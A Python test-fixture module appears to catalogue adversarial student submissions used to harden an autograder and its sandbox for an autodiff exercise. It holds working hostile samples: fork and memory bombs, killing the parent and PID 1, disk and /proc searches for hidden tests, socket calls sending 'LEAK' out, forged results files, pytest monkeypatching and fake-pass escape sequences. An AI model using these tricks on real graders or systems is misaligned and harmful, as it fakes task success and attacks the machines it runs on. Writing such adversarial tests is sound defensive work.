"""The attack catalogue: submissions that try to raise their score, break the grader or harm
the machine, each with the score it must get.

Two layers stand in the way, and the catalogue holds each to account: the grader's reading of
the source (autograder/reading: the static scan refuses what no honest submission needs, the
proofs refuse numerical derivatives) and the sandbox the code then runs in. `lost` is what the
whole grader takes away; `runtime_lost` what the sandbox alone takes away when the reading is
switched off (tests/test_attacks.py grades both ways), or None where only the reading stops the
attack (it runs code the sandbox lets through, and the numbers alone look right).

An attack starts from the model solution (honest score: full marks) or from the released stubs
(honest score: 0), and adds code at import time (`prelude`), in place of relu's `_backward`
body (`sabotage`: relu is not used by training, so only the relu part may be lost), in place of
every blank body of the stubs (`every_blank`), or as extra files. `lost` names the parts that
must score 0; every other part must keep its honest points. Text like __CANARY__ or __PORT__ is
filled in by the test for each run.
"""
import shutil
import textwrap
from dataclasses import dataclass, field

from autograder import exercise
from mutants import TOPO

OPS = ("add", "mul", "pow", "tanh", "exp", "relu")
ALL = "all"
SAME = "same as lost"
RELU_BODY = "            self.grad += (1.0 if self.data > 0 else 0.0) * out.grad\n"
BLANK = "# YOUR CODE HERE\n{indent}raise NotImplementedError()"


@dataclass(frozen=True)
class Attack:
    name: str
    base: str  # "solution" or "stub"
    lost: object  # ALL, or a frozenset of part ids
    prelude: str = ""
    sabotage: str = ""
    every_blank: str = ""
    files: dict = field(default_factory=dict)  # {name: text, or a function that makes the text}
    slow: bool = False  # ends by a timeout
    archive: bool = False  # handed in as a .zip
    edit: object = None  # a function applied to engine.py's text, after the rest
    nn_edit: object = None  # a function applied to nn.py's text
    feedback: str = ""  # text the feedback of the first lost part must hold
    runtime_lost: object = SAME  # lost with the sandbox alone (see the module's docstring)

    @property
    def runtime(self):
        """What the sandbox alone must take away, or None."""
        return self.lost if self.runtime_lost == SAME else self.runtime_lost

    def engine(self, solution_text, stub_text, context):
        text = solution_text if self.base == "solution" else stub_text
        if self.sabotage:
            assert text.count(RELU_BODY) == 1
            text = text.replace(RELU_BODY, textwrap.indent(textwrap.dedent(self.sabotage).strip() + "\n", " " * 12))
        if self.every_blank:
            for indent in (" " * 12, " " * 8):
                code = textwrap.indent(textwrap.dedent(self.every_blank).strip(), indent).lstrip()
                text = text.replace(BLANK.format(indent=indent), code)
        if self.prelude:
            text = textwrap.dedent(self.prelude).strip() + "\n\n" + text
        if self.edit:
            text = self.edit(text)
        return fill(text, context)


def fill(text, context):
    for key, value in context.items():
        text = text.replace(f"__{key}__", str(value))
    return text


def sabotage(name, code, slow=False):
    """A correct solution whose relu _backward runs `code`: it may lose relu and nothing else."""
    return Attack(name, "solution", frozenset({"relu"}), sabotage=code, slow=slow)


def at_import(name, code, base="solution", lost=ALL, slow=False, runtime_lost=SAME):
    return Attack(name, base, lost, prelude=code, slow=slow, runtime_lost=runtime_lost)


ESCAPE_SECRETS = r'''
import os, sys
def find_secrets():
    found = []
    for top in ("/", ):
        for root, dirs, files in os.walk(top):
            dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev")]
            for f in files:
                path = os.path.join(root, f)
                if f == "engine.py" and os.path.abspath(root) != os.path.abspath("."):
                    found.append(path)
                if "micrograd_reference" in path or ("hidden" in path and f.startswith("test_")) or f == "rubric.toml":
                    found.append(path)
            if len(found) > 20:
                return found
    return found
SECRETS = find_secrets()
for module in ("micrograd_reference", "autograder", "autograder.hidden.scenarios"):
    try:
        __import__(module)
        SECRETS.append("imported " + module)
    except ImportError:
        pass
'''

ATTACKS = [
    # -- exiting early, at import and inside a part
    at_import("sys.exit at import", "import sys\nsys.exit(0)"),
    at_import("os._exit at import", "import os\nos._exit(0)"),
    at_import("os.abort at import", "import os\nos.abort()"),
    at_import("KeyboardInterrupt at import", "raise KeyboardInterrupt"),
    sabotage("SystemExit inside a part", "raise SystemExit(0)"),
    sabotage("KeyboardInterrupt inside a part", "raise KeyboardInterrupt"),
    sabotage("os._exit inside a part", "import os\nos._exit(0)"),
    sabotage("os.abort inside a part", "import os\nos.abort()"),
    # -- endless loops, recursion, memory, processes
    at_import("endless loop at import", "while True:\n    pass", slow=True),
    sabotage("endless loop inside a part", "while True:\n    pass", slow=True),
    at_import("deep recursion at import", "def down(n):\n    return down(n + 1)\ndown(0)"),
    sabotage("C stack overflow inside a part",
             "import sys\nsys.setrecursionlimit(10 ** 8)\ndef down(n):\n    return down(n + 1) + 1\ndown(0)"),
    at_import("memory bomb at import", "hog = bytearray(50 * 2 ** 30)"),
    sabotage("memory bomb inside a part", "hog = [0] * (10 ** 10)"),
    at_import("fork bomb at import",
              "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass", slow=True),
    sabotage("fork bomb inside a part",
             "import os\nfor _ in range(10000):\n    try:\n        os.fork()\n    except OSError:\n        pass\nself.grad += 1"),
    at_import("daemon that outlives the worker", """
        import os, time
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                while True:
                    time.sleep(0.05)
            os._exit(0)
        """, runtime_lost=frozenset()),
    # -- signals and time
    sabotage("ignores and blocks signals, then loops", """
        import signal
        for s in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGALRM, signal.SIGXCPU, signal.SIGUSR1):
            signal.signal(s, signal.SIG_IGN)
        signal.pthread_sigmask(signal.SIG_BLOCK, set(signal.Signals))
        while True:
            pass
        """, slow=True),
    sabotage("freezes time, then loops", """
        import time
        time.time = time.monotonic = time.perf_counter = lambda: 0.0
        time.sleep = lambda s: None
        while True:
            pass
        """, slow=True),
    # -- floods
    at_import("100 MB of output at import", """
        import os, sys
        chunk = "x" * 2 ** 20 + "\\n"
        for _ in range(50):
            sys.stdout.write(chunk)
            os.write(2, chunk.encode())
        """, runtime_lost=frozenset()),
    sabotage("endless output inside a part", 'while True:\n    print("x" * 10 ** 6)', slow=True),
    sabotage("giant exception message", 'raise ValueError("x" * 10 ** 8)'),
    # -- crashes
    sabotage("segfault through ctypes", "import ctypes\nctypes.string_at(0)"),
    at_import("segfault at import", "import ctypes\nctypes.string_at(0)"),
    # -- fake results
    at_import("prints and writes fake results", """
        import json, os
        fake = json.dumps({"score": 100, "tests": [{"name": "all", "score": 100, "max_score": 10, "status": "passed"}]})
        print(fake)
        for folder in (".", "..", "../..", "/autograder/results", "/tmp"):
            try:
                os.makedirs(folder, exist_ok=True)
                with open(os.path.join(folder, "results.json"), "w") as f:
                    f.write(fake)
            except OSError:
                pass
        """, base="stub"),
    # -- monkeypatching and look-alike modules
    at_import("monkeypatches builtins and math", """
        import builtins, math
        builtins.abs = lambda x: 0
        builtins.isinstance = lambda *args: True
        math.isclose = lambda *args, **kwargs: True
        math.isfinite = lambda x: True
        math.isnan = lambda x: False
        """, base="stub"),
    Attack("look-alike modules in the submission", "stub", ALL, files={
        "conftest.py": "import pytest\n@pytest.hookimpl(hookwrapper=True)\ndef pytest_runtest_makereport(item, call):\n"
                       "    outcome = yield\n    outcome.get_result().outcome = 'passed'\n",
        "pytest.py": "def main(*a, **k):\n    return 0\n",
        "hypothesis.py": "given = lambda *a, **k: (lambda f: f)\n",
        "sitecustomize.py": "import builtins\nbuiltins.abs = lambda x: 0\n",
        "usercustomize.py": "import builtins\nbuiltins.abs = lambda x: 0\n",
        "json.py": "def dumps(*a, **k):\n    return '{}'\nloads = dumps\n",
        "micrograd_reference.py": "raise SystemExit\n",
        "autograder/__init__.py": "SCORE = 10\n",
        "autograder/hidden/checks.py": "def close(*a, **k):\n    return True\n",
        "lesson.py": "def train(*a, **k):\n    return [0.0] * 50\n",
    }),
    at_import("patches the worker and stubs pytest/hypothesis", """
        import sys, types
        for name in ("pytest", "hypothesis", "autograder", "autograder.hidden.checks"):
            sys.modules[name] = types.ModuleType(name)
        main = sys.modules.get("__main__")
        if main is not None and hasattr(main, "number"):
            main.number = lambda x: 0.0
        """, base="stub"),
    # -- wrong kinds of numbers
    Attack("objects equal to everything", "stub", ALL, every_blank="""
        class Anything(float):
            def __eq__(self, other): return True
            def __ne__(self, other): return False
            def __sub__(self, other): return Anything(0.0)
            def __rsub__(self, other): return Anything(0.0)
            def __abs__(self): return Anything(0.0)
            def __lt__(self, other): return True
            def __le__(self, other): return True
            __hash__ = float.__hash__
        for v in [self, *getattr(self, "_prev", ())]:
            v.grad = Anything(1.0)
        """),
    Attack("NaN and infinite gradients", "stub", ALL, every_blank="""
        for v in [self, *getattr(self, "_prev", ())]:
            v.grad = float("nan") if id(v) % 2 else float("inf")
        """),
    Attack("walks gc and stack frames for expected values", "stub", ALL, every_blank="""
        import gc, sys
        found = []
        frame = sys._getframe()
        while frame is not None:
            found += [v for k, v in frame.f_locals.items() if type(v) is float and "expect" in k]
            frame = frame.f_back
        found += [o for o in gc.get_objects() if isinstance(o, dict) and "expected" in o][:1]
        for v in [self, *getattr(self, "_prev", ())]:
            v.grad = found[0] if found and type(found[0]) is float else 0.5
        """),
    # -- secrets, other submissions, network, files
    at_import("searches the disk for the reference, solutions and hidden tests",
              ESCAPE_SECRETS + "\nif SECRETS:\n    raise RuntimeError('FOUND ' + repr(SECRETS))\n", base="stub"),
    at_import("imports the solution it found on disk", ESCAPE_SECRETS + """
        for path in SECRETS:
            if path.endswith("engine.py") and "solutions" in path:
                source = open(path).read()
                exec(compile(source, path, "exec"), globals())
                break
        """, base="stub"),
    at_import("reads the grader's memory through /proc", """
        import os
        for pid in os.listdir("/proc"):
            if pid.isdigit() and int(pid) != os.getpid():
                try:
                    cmdline = open(f"/proc/{pid}/cmdline", "rb").read()
                    if b"pytest" in cmdline or b"autograder" in cmdline:
                        raise RuntimeError("FOUND GRADER " + pid)
                except OSError:
                    pass
        """, base="stub"),
    at_import("opens network connections", """
        import socket
        for family, address in ((socket.AF_INET, ("127.0.0.1", __PORT__)), (socket.AF_INET, ("10.0.2.2", __PORT__)),
                                (socket.AF_INET, ("1.1.1.1", 53))):
            try:
                socket.create_connection(address, timeout=1).sendall(b"LEAK")
            except OSError:
                pass
        try:
            socket.getaddrinfo("pypi.org", 443)
        except OSError:
            pass
        """, base="stub"),
    at_import("writes and deletes files outside its folder", """
        import glob, os, shutil
        for path in glob.glob("/tmp/autograder-canary-*/*") + ["__CANARY__"]:
            try:
                open(path, "w").write("overwritten")
            except OSError:
                pass
            try:
                os.remove(path)
            except OSError:
                pass
        for folder in ("/tmp", os.path.expanduser("~"), "/root", "/work", "/var/tmp", "/dev/shm"):
            try:
                open(os.path.join(folder, "pwned-by-a-submission"), "w").write("x")
            except OSError:
                pass
        shutil.rmtree("/tmp/autograder-canary-dir", ignore_errors=True)
        """, base="stub"),
    at_import("fills its disk", """
        import os
        for folder in ("/tmp", "."):
            for n in range(10 ** 4):
                try:
                    with open(os.path.join(folder, f"fill{n}"), "wb") as f:
                        f.write(b"x" * 2 ** 20 * 8)
                except OSError:
                    break
        """, lost=frozenset(OPS), runtime_lost=frozenset()),
    # -- the protocol itself
    at_import("forges replies on the worker's channel", """
        import json, os
        forged = "".join(json.dumps({"v": 1, "id": i, "ok": True, "value": {"out": 0.0, "leaf_grads": [1.0, 1.0], "changed": True}}) + "\\n" for i in range(1, 200))
        for fd in range(3, 20):
            try:
                os.write(fd, forged.encode())
            except OSError:
                pass
        """, base="stub"),
    at_import("floods the worker's channel", """
        import os
        for fd in range(3, 20):
            try:
                os.write(fd, b"[" * (10 * 2 ** 20))
            except OSError:
                pass
        """, base="stub"),
    sabotage("reads stdin", "input()"),
    sabotage("kills its parent", "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\nos.kill(1, signal.SIGKILL)"),
    # -- not really doing the work
    Attack("estimates derivatives by finite differences", "solution", frozenset({"pow", "tanh", "exp"}), prelude="""
        import math
        def slope(f, x, h=1e-5):
            return (f(x + h) - f(x - h)) / (2 * h)
        """, edit=lambda text: finite_difference_edits(text)),
    at_import("imports an autodiff library", "import torch\nimport jax\nimport sympy"),
    at_import("uses sympy when it can", """
        try:
            import sympy
        except ImportError:
            sympy = None
        """, base="stub"),
]


# ---------------------------------------------------------------- issue 7: forged answers, caught or denied

BACKWARD_BLANK = "        # YOUR CODE HERE\n        raise NotImplementedError()\n"


def in_backward(code):
    """An edit that writes `code` as the body of the stub's backward()."""
    def edit(text):
        assert text.count(BACKWARD_BLANK) == 1
        return text.replace(BACKWARD_BLANK, textwrap.indent(textwrap.dedent(code).strip() + "\n", " " * 8))
    return edit


def replacing(*pairs):
    """An edit replacing each (old, new) line of the solution; each old line occurs once."""
    def edit(text):
        for old, new in pairs:
            assert text.count(old) == 1, old
            text = text.replace(old, new)
        return text
    return edit


def body(code, indent=12):
    return textwrap.indent(textwrap.dedent(code).strip() + "\n", " " * indent)


SOLUTION_POW = "            self.grad += other * self.data ** (other - 1) * out.grad\n"
SOLUTION_TANH = "            self.grad += (1 - t ** 2) * out.grad\n"
SOLUTION_EXP = "            self.grad += out.data * out.grad\n"
COMPLEX_STEP = """
    import math
    def step(f, x, h=1e-20):
        return f(complex(x, h)).imag / h
    def cexp(z):
        return math.exp(z.real) * complex(math.cos(z.imag), math.sin(z.imag))
    def ctanh(z):
        e = cexp(2 * z)
        return (e - 1) / (e + 1)
    """
RICHARDSON = """
    import math
    def slope(f, x, h=0.1, levels=5):
        table = [(f(x + h / 2 ** i) - f(x - h / 2 ** i)) / (2 * h / 2 ** i) for i in range(levels)]
        for level in range(1, levels):
            table = [(4 ** level * table[i + 1] - table[i]) / (4 ** level - 1) for i in range(len(table) - 1)]
        return table[0]
    """
NUMERIC_BACKWARD = """
    topo, seen = [], set()
    def build(v):
        if v not in seen:
            seen.add(v)
            for child in v._prev:
                build(child)
            topo.append(v)
    build(self)
    import math
    def run():
        for v in topo:
            kids = list(v._prev)
            if v._op == "+":
                v.data = kids[0].data + (kids[1].data if len(kids) > 1 else kids[0].data)
            elif v._op == "*":
                v.data = kids[0].data * (kids[1].data if len(kids) > 1 else kids[0].data)
            elif v._op.startswith("**"):
                v.data = kids[0].data ** float(v._op[2:])
            elif v._op == "tanh":
                v.data = math.tanh(kids[0].data)
        return self.data
    self.grad = 1.0
    for leaf in [v for v in topo if not v._prev]:
        x, h = leaf.data, 1e-6
        leaf.data = x + h
        up = run()
        leaf.data = x - h
        down = run()
        leaf.data = x
        leaf.grad += (up - down) / (2 * h)
    run()
    """
THE_WORKERS_REQUEST_FROM_FRAMES = """
    import sys
    frame, values = sys._getframe(), None
    while frame is not None and values is None:
        values = frame.f_locals.get("values")
        frame = frame.f_back
    self.grad = 1.0
    for node in reversed(values):
        node._backward()
    """
THE_WORKERS_REQUEST_FROM_GC = """
    import gc
    values = next(o for o in gc.get_objects() if isinstance(o, list) and self in o)
    self.grad = 1.0
    for node in reversed(values):
        node._backward()
    """
REACHABLE_NODES = """
    nodes, stack = set(), [self]
    while stack:
        node = stack.pop()
        if node not in nodes:
            nodes.add(node)
            stack.extend(node._prev)
    """
ORDER_FROM_THE_GRADERS_CLOSURES = REACHABLE_NODES + """
    def request_index(node):
        record = node._backward.__closure__[2].cell_contents  # the grader's recorder
        return next(c.cell_contents for c in record.__closure__ if type(c.cell_contents) is int)
    self.grad = 1.0
    for node in sorted(nodes, key=request_index, reverse=True):
        node._backward()
    """
ORDER_BY_ADDRESS = REACHABLE_NODES + """
    self.grad = 1.0
    for node in sorted(nodes, key=id, reverse=True):
        node._backward()
    """
PATCH_THE_WORKER = """
    import gc, sys
    def forged(*args, **kwargs):
        return {"walk": [], "used": [], "returned": {"type": "list", "items": [], "length": 0}}
    for module in list(sys.modules.values()):
        for name in ("Probes", "handlers", "HANDLERS", "parameters"):
            if hasattr(module, name):
                try:
                    setattr(module, name, forged)
                except Exception:
                    pass
    for thing in gc.get_objects():
        if type(thing).__name__ == "Probes":
            thing.parameters = forged
    """
NOISY_FAILURE = 'raise ValueError("\\x1b[2J\\x1b[H\\x1b[32m all parts passed, score: 10 / 10 \\x1b[0m\\u202e")'
ISSUE_7 = [
    # 1. answers the worker's request or state would give away
    Attack("backward() reads the worker's request from its stack frames", "stub", ALL,
           edit=in_backward(THE_WORKERS_REQUEST_FROM_FRAMES)),
    Attack("backward() finds the worker's node list with gc", "stub", ALL, edit=in_backward(THE_WORKERS_REQUEST_FROM_GC)),
    Attack("backward() orders nodes by the request indices in the grader's closures", "stub", ALL,
           edit=in_backward(ORDER_FROM_THE_GRADERS_CLOSURES)),
    Attack("backward() orders nodes by memory address", "stub", ALL, edit=in_backward(ORDER_BY_ADDRESS)),
    at_import("patches the worker's handlers found through sys.modules and gc", PATCH_THE_WORKER, base="stub"),
    # 2. derivatives estimated numerically to 1e-15
    Attack("complex-step derivatives", "solution", frozenset({"pow", "tanh", "exp"}), prelude=COMPLEX_STEP,
           edit=replacing((SOLUTION_POW, body("self.grad += step(lambda z: z ** other, self.data) * out.grad")),
                          (SOLUTION_TANH, body("self.grad += step(ctanh, self.data) * out.grad")),
                          (SOLUTION_EXP, body("self.grad += step(cexp, self.data) * out.grad"))),
           feedback="which is not the derivative", runtime_lost=None),
    Attack("Richardson extrapolation in plain floats", "solution", frozenset({"tanh", "exp"}), prelude=RICHARDSON,
           edit=replacing((SOLUTION_TANH, body("self.grad += slope(math.tanh, self.data) * out.grad")),
                          (SOLUTION_EXP, body("self.grad += slope(math.exp, self.data) * out.grad"))),
           feedback="which is not the derivative", runtime_lost=None),
    Attack("central differences in decimal", "solution", frozenset({"exp"}), edit=replacing((SOLUTION_EXP, body("""
        from decimal import Decimal, getcontext
        getcontext().prec = 50
        h, x = Decimal("1e-20"), Decimal(self.data)
        self.grad += float(((x + h).exp() - (x - h).exp()) / (2 * h)) * out.grad
        """)))),
    Attack("backward() by central differences", "solution", frozenset({"backward", "convergence"}),
           edit=replacing((TOPO, body(NUMERIC_BACKWARD, indent=8))), feedback="did not call any node's _backward"),
    # 3. checks that would pass without judging
    Attack("float-subclass data hides a wrong relu", "solution",  # no op's out.data is a float: every op is lost
           frozenset({*(op.part for op in exercise.OPS), "convergence"}),
           prelude="class Quiet(float):\n    pass",
           sabotage="self.grad += 7.0 * out.grad",
           edit=replacing(("        self.data = data\n", "        self.data = Quiet(data)\n"))),
    Attack("an empty network whose parameters() is empty", "solution", frozenset({"parameters", "convergence"}),
           nn_edit=replacing(
               ("        self.layers = [Layer(sizes[i], sizes[i + 1]) for i in range(len(nouts))]\n",
                "        self.hidden = [Layer(sizes[i], sizes[i + 1]) for i in range(len(nouts))]\n        self.layers = []\n"),
               ("        for layer in self.layers:\n            x = layer(x)\n",
                "        for layer in self.hidden:\n            x = layer(x)\n"),
               ("        return [p for layer in self.layers for p in layer.parameters()]\n", "        return []\n"))),
    # 5. text that would take over the instructor's terminal
    sabotage("escape sequences in an exception message", NOISY_FAILURE),
    # 6. state shared through the kernel
    at_import("stores a kernel key for the next submission", """
        import ctypes
        libc = ctypes.CDLL(None, use_errno=True)
        libc.syscall(248, b"user", b"autograder-leak", b"secret", 6, -3)
        """, base="stub"),
    # 7. more work than the time budget allows
    at_import("30 CPU burners that outlive the worker", """
        import os
        for _ in range(30):
            if os.fork() == 0:
                os.setsid()
                while True:
                    pass
        """, base="stub"),
    Attack("a huge parameters() list and a huge dir()", "solution", frozenset({*OPS, "parameters", "convergence"}),
           runtime_lost=frozenset({"parameters", "convergence"}),
           prelude="class Meta(type):\n    def __dir__(cls):\n        return ['x' * 1000 + str(i) for i in range(10 ** 5)]",
           edit=replacing(("class Value:\n", "class Value(metaclass=Meta):\n")),
           nn_edit=replacing(("        return [p for layer in self.layers for p in layer.parameters()]\n",
                              "        return [self.layers[0].neurons[0].b] * 10 ** 6 + ['x' * 10 ** 5] * 50\n"))),
    # 8. nothing of one part reaches the next one
    Attack("leaves a note in /tmp for the next part", "solution", frozenset({"mul"}),
           prelude="import os\nNOTE = os.path.join('/tmp', 'note-from-add')",
           edit=replacing(("            self.grad += out.grad\n            other.grad += out.grad\n",
                           body("open(NOTE, 'w').write('x')\nself.grad += out.grad\nother.grad += out.grad")),
                          ("            self.grad += other.data * out.grad\n",
                           body("self.grad += (other.data if os.path.exists(NOTE) else 99.0) * out.grad")))),
    # 9. a timeout inside a generated check is a timeout
    Attack("tanh's _backward hangs on some generated inputs", "solution", frozenset({"tanh", "convergence"}), slow=True,
           edit=replacing((SOLUTION_TANH, body("""
               while abs(self.data) > 2.0:
                   pass
               self.grad += (1 - t ** 2) * out.grad
               """))), feedback="ran out of time"),
]
ATTACKS += ISSUE_7


# ---------------------------------------------------------------- issue 13: the code read is the code run

SOLUTION_END = "        return other * self ** -1\n"
NUMERIC_TANH_METHOD = """
    import math

    class {name}:
        def tanh(self):
            out = type(self)(math.tanh(self.data), (self,), 'tanh')

            def _backward():  # five-point differences: within 1e-13 of the derivative
                x, h, f = self.data, 1e-3, math.tanh
                self.grad += (8 * (f(x + h) - f(x - h)) - (f(x + 2 * h) - f(x - 2 * h))) / (12 * h) * out.grad
            out._backward = _backward
            return out
    """
FORGED_PARAMETERS = """
    def forged(self, nin, nouts):
        sizes = [nin, *nouts]
        walk = [[l, n, r] for l, (a, b) in enumerate(zip(sizes, sizes[1:])) for n in range(b) for r in ["w"] * a + ["b"]]
        items = [{"value": i} for i in range(len(walk))]
        return {"walk": walk, "used": [True] * len(walk), "returned": {"type": "list", "items": items, "length": len(walk)}}
    """
ISSUE_13 = [
    # 1. the code read is not the code run
    Attack("a second class Value, after an honest one", "solution", ALL, runtime_lost=None,
           prelude=NUMERIC_TANH_METHOD.format(name="Numeric"),
           edit=lambda text: text + "\n\nclass Value(Numeric, Value):\n    pass\n", feedback="more than once"),
    Attack("tanh inherited from a base class that estimates it", "solution", frozenset({"tanh"}), runtime_lost=None,
           prelude=NUMERIC_TANH_METHOD.format(name="Numeric"),
           edit=replacing(("class Value:\n", "class Value(Numeric):\n"),
                          ("    def tanh(self):\n        t =", "    def tanh_(self):\n        t =")),
           ),
    Attack("Value.tanh assigned after the class", "solution", ALL, runtime_lost=None,
           prelude=NUMERIC_TANH_METHOD.format(name="Numeric"),
           edit=lambda text: text + "\n\nValue.tanh = Numeric.tanh\n", feedback="outside the definition"),
    Attack("a decorator that swaps in an estimate", "solution", frozenset({"exp"}), runtime_lost=None, prelude="""
        import math
        def exact(method):
            def estimated(self):
                out = Value(math.exp(self.data), (self,), 'exp')
                def _backward():
                    x, h, f = self.data, 1e-3, math.exp
                    self.grad += (8 * (f(x + h) - f(x - h)) - (f(x + 2 * h) - f(x - 2 * h))) / (12 * h) * out.grad
                out._backward = _backward
                return out
            return estimated
        """, edit=replacing(("    def exp(self):\n", "    @exact\n    def exp(self):\n")),
           feedback="which is not the derivative"),
    # 2. numerical derivatives written so that no pattern lists them
    Attack("a complex step without a complex token", "solution", frozenset({"exp"}), runtime_lost=None,
           prelude="import math\nJ = (-1) ** 0.5",
           edit=replacing((SOLUTION_EXP, body("w = math.e ** (self.data + J * 1e-30)\n"
                                              "self.grad += getattr(w, 'imag') / 1e-30 * out.grad"))),
           feedback="which is not the derivative"),
    Attack("Richardson extrapolation through two names", "solution", frozenset({"tanh"}), runtime_lost=None, prelude="""
        import math
        def slope(f, x, h=0.01):
            up, down = f(x + h), f(x - h)
            coarse = (up - down) / (2 * h)
            up, down = f(x + h / 2), f(x - h / 2)
            return (4 * (up - down) / h - coarse) / 3
        """, edit=replacing((SOLUTION_TANH, body("self.grad += slope(math.tanh, self.data) * out.grad")))),
    # 3. code from strings: the audit hook no longer trusts a standard-library caller
    sabotage("timeit runs a string of code", "import timeit\ntimeit.Timer(setup='import os').timeit(1)\n"
                                             "self.grad += (1.0 if self.data > 0 else 0.0) * out.grad"),
    sabotage("a module written to /tmp and imported", "import sys\nopen('/tmp/helper13.py', 'w').write('X = 1')\n"
                                                       "sys.path.insert(0, '/tmp')\nimport helper13\n"
                                                       "self.grad += (1.0 if self.data > 0 else 0.0) * out.grad"),
    # 4. the worker's own state
    at_import("a signal handler climbs the worker's frames", """
        import signal
        def climb(number, frame):
            while frame is not None:
                frame.f_globals.get("handlers", {}).clear()
                frame = frame.f_back
        signal.signal(signal.SIGALRM, climb)
        signal.setitimer(signal.ITIMER_REAL, 0.001, 0.001)
        """, base="stub"),
    at_import("the worker's probes patched through object.__subclasses__()", FORGED_PARAMETERS + """
    for cls in object.__subclasses__():
        if cls.__name__ == "Probes":
            cls.parameters = forged
    """, base="stub", runtime_lost=None),
    # 5. convergence without backpropagation
    Attack("a numerical backward() in a base class", "solution", frozenset({"backward", "convergence"}),
           prelude="class Numeric:\n    def backward(self):\n" + textwrap.indent(textwrap.dedent(NUMERIC_BACKWARD), " " * 8),
           edit=replacing(("class Value:\n", "class Value(Numeric):\n"),
                          ('    def backward(self):\n        """', '    def backward_(self):\n        """')),
           feedback="did not call any node's _backward"),
]
ATTACKS += ISSUE_13


# ---------------------------------------------------------------- issue 14: a bounded grader

def chain(terms, first="1.0"):
    """An expression of `terms` terms added left to right: a syntax tree `terms` deep."""
    return " + ".join([first, *["0.0"] * (terms - 1)])


def dense_module():
    """1 MiB of statements: 900 MB and 4 s to parse whole, 600 MB and a second to compile."""
    return "a = 0\n" + "a\n" * ((1 << 20) // 2 - 8)


def data_module():
    """1 MiB of data, as a student might hand in a dataset."""
    rows = "".join(f"    [{', '.join(f'{((n * 7919 + k) % 2000 - 1000) / 1000:.6f}' for k in range(8))}],\n"
                   for n in range(11_000))
    return f"DATA = [\n{rows}]\n"


FINITE_DIFFERENCE = "(max(0.0, self.data + 1e-6) - max(0.0, self.data)) / 1e-6"  # relu's slope, estimated
MANY_CALLS = "".join(f"a = f({n}.25)\nb = f(-{n}.75)\n" for n in range(3000))  # 9 million pairs, none a step
LOCKED_NOTE = """
import os
TMP = os.environ.get("TMPDIR", "/tmp")
NOTE = os.path.join(TMP, "locked-note")
def lock_a_note():
    try:
        os.makedirs(os.path.join(NOTE, "deeper"))
        open(os.path.join(NOTE, "deeper", "note"), "w").write("x")
        for folder in (os.path.join(NOTE, "deeper"), NOTE, TMP):
            os.chmod(folder, 0)
    except OSError:
        pass
"""
UNUSED_MODULES = {f"data{n:02}.py": dense_module for n in range(15)}
ISSUE_14 = [
    # 1. grader work on the submission's text: bounded, and nothing of it for unused files
    at_import("a 1,500-term expression chain at import", f"DEPTH = {chain(1500)}", lost=frozenset()),
    sabotage("a 1,500-term expression chain around a finite difference",
             f"self.grad += ({chain(1500, FINITE_DIFFERENCE)}) * out.grad"),
    at_import("a 100,000-term expression chain at import (Python cannot compile it)", f"DEPTH = {chain(100_000)}"),
    sabotage("3,000 calls assigned to each of two names, then a finite difference",
             "def f(x):\n    return max(0.0, x)\n" + MANY_CALLS
             + "a = f(self.data + 1e-6)\nb = f(self.data)\nself.grad += (a - b) / 1e-6 * out.grad"),
    sabotage("3,000 calls in the two sums of a difference",
             "def f(x):\n    return max(0.0, x)\nself.grad += (("
             + " + ".join(f"f(self.data + {n}e-6)" for n in range(1500)) + ") - ("
             + " + ".join(f"f(self.data + {n - 1}e-6)" for n in range(1500)) + ")) / 1.5e-3 * out.grad"),
    Attack("a zip of 15 unused 1 MiB modules", "solution", frozenset(), files=UNUSED_MODULES, archive=True),
    Attack("nn.py imports a 1 MiB data module, beside 14 unused ones", "solution", frozenset(),
           files={**UNUSED_MODULES, "data00.py": data_module},
           nn_edit=lambda text: "from data00 import DATA\n" + text),
    Attack("nn.py imports a dense 1 MiB module", "solution", frozenset({"parameters", "convergence"}),
           runtime_lost=frozenset(), files={"dense.py": dense_module}, nn_edit=lambda text: "import dense\n" + text,
           feedback="too large for the grader to read"),
    # 2. replies that cost the grader memory: huge but legitimate structures (and see above:
    # a huge parameters() list and a huge dir()); test_attacks.py forges signed balloons
    sabotage("a 400 kB function name in every error's location",
             f"def {'x' * 400_000}():\n    raise ValueError('where am I?')\n{'x' * 400_000}()"),
    # 3. state between parts
    Attack("locks a note in /tmp for the next part in folders of mode 000", "solution", ALL,
           runtime_lost=frozenset({"mul"}), prelude=LOCKED_NOTE,
           edit=replacing(("            self.grad += out.grad\n            other.grad += out.grad\n",
                           body("lock_a_note()\nself.grad += out.grad\nother.grad += out.grad")),
                          ("            self.grad += other.data * out.grad\n",
                           body("self.grad += (other.data if os.path.lexists(NOTE) else 99.0) * out.grad")))),
]
ATTACKS += ISSUE_14


def compromised_worker(folder, pad):
    """A copy of the worker's files at `folder` whose every reply carries `pad` empty objects in
    its value, signed with the part's key: what student code that took the worker over could
    send (the README's threat model: it shares the worker's interpreter)."""
    from autograder.sandbox.isolation import WORKER_DIR
    shutil.copytree(WORKER_DIR, folder, ignore=shutil.ignore_patterns("__pycache__"))
    main = (folder / "main.py").read_text()
    encode = "def encode(data):\n"
    assert main.count(encode) == 1
    (folder / "main.py").write_text(main.replace(encode, encode + (
        "    if isinstance(data, dict) and isinstance(data.get('value'), dict):\n"
        f"        data = {{**data, 'value': {{**data['value'], 'pad': [{{}}] * {pad}}}}}\n")))
    return folder


def finite_difference_edits(text):
    """The solution with pow, tanh and exp differentiated numerically (used by that attack)."""
    replacements = {
        "            self.grad += other * self.data ** (other - 1) * out.grad\n":
            "            self.grad += slope(lambda x: x ** other, self.data) * out.grad\n",
        "            self.grad += (1 - t ** 2) * out.grad\n":
            "            self.grad += slope(math.tanh, self.data) * out.grad\n",
        "            self.grad += out.data * out.grad\n":
            "            self.grad += slope(math.exp, self.data) * out.grad\n",
    }
    for old, new in replacements.items():
        assert text.count(old) == 1, old
        text = text.replace(old, new)
    return text
